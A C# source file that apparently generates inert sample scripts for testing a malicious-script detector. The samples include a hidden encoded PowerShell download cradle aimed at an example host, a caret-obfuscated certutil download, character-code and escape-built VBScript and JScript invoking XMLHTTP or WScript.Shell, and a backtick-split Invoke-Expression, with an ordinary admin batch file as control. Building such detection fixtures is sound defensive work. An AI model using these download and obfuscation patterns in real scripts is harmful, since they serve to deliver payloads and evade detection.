using System.Globalization;
using System.Text;

namespace Noroshi.Makers.Scripts;

/// <summary>Scripts with the shapes attackers use; addresses are example names and nothing in them runs to any effect.</summary>
public static class ScriptMaker
{
    /// <summary>A batch file that hands an encoded command to PowerShell.</summary>
    public static byte[] EncodedCommand(
        string command = "Write-Output 'x'; (New-Object Net.WebClient).DownloadString('http://enc.example/a')"
    ) =>
        Encoding.ASCII.GetBytes(
            "@echo off\r\nset A=1\r\npowershell -nop -w hidden -enc "
                + Convert.ToBase64String(Encoding.Unicode.GetBytes(command))
                + "\r\nexit /b 0\r\n"
        );

    /// <summary>A VBScript whose address and object name are built from character codes and pieces.</summary>
    public static byte[] CharacterCodes(string address) =>
        Encoding.ASCII.GetBytes(
            "Option Explicit\r\nDim a, u\r\nu = "
                + string.Join(" & ", address.Select(c => string.Create(CultureInfo.InvariantCulture, $"Chr({(int)c})")))
                + "\r\nSet a = CreateObject(\"MSXML2.XML\" & \"HTTP\")\r\na.Open \"GET\", u, False\r\nWScript.Echo u\r\n"
        );

    /// <summary>A JScript with escapes and joined pieces.</summary>
    public static byte[] Escapes(string address) =>
        Encoding.ASCII.GetBytes(
            "var u = '"
                + string.Concat(address.Select(c => string.Create(CultureInfo.InvariantCulture, $"\\x{(int)c:x2}")))
                + "';\r\nvar s = new ActiveXObject('WScr' + 'ipt.Sh' + 'ell');\r\nfunction f() { return s; }\r\nf();\r\n"
        );

    /// <summary>A batch file with carets in its words.</summary>
    public static byte[] Carets() =>
        "@echo off\r\nsetlocal\r\nset A=1\r\nc^e^r^t^u^t^i^l -u^r^l^c^a^c^h^e -f http://caret.example/a %TEMP%\\a\r\nexit /b 0\r\n"u8.ToArray();

    /// <summary>A PowerShell script with backticks and a file in base64.</summary>
    public static byte[] Carrier(byte[] file) =>
        Encoding.ASCII.GetBytes(
            "$b = [Convert]::FromBase64String('"
                + Convert.ToBase64String(file)
                + "')\r\nIn`vo`ke-Exp`ression 'x'\r\nforeach ($i in $b) { $null = $i }\r\nWrite-Host $env:TEMP\r\n"
        );

    /// <summary>A JScript that has a file as a list of numbers.</summary>
    public static byte[] Numbers(byte[] file) =>
        Encoding.ASCII.GetBytes(
            "function f(x) { return x; }\r\nvar s = new ActiveXObject('Scripting.Dictionary');\r\nfor (var i = 0; i < 4; i++) { f(i); }\r\nvar a = ["
                + string.Join(", ", file)
                + "];\r\n"
        );

    /// <summary>An administrator's ordinary batch file.</summary>
    public static byte[] Ordinary() =>
        "@echo off\r\nsetlocal\r\nset DIR=C:\\Data\r\nif not exist %DIR% mkdir %DIR%\r\ncopy /y \\\\server\\share\\*.txt %DIR%\r\nexit /b 0\r\n"u8.ToArray();
}
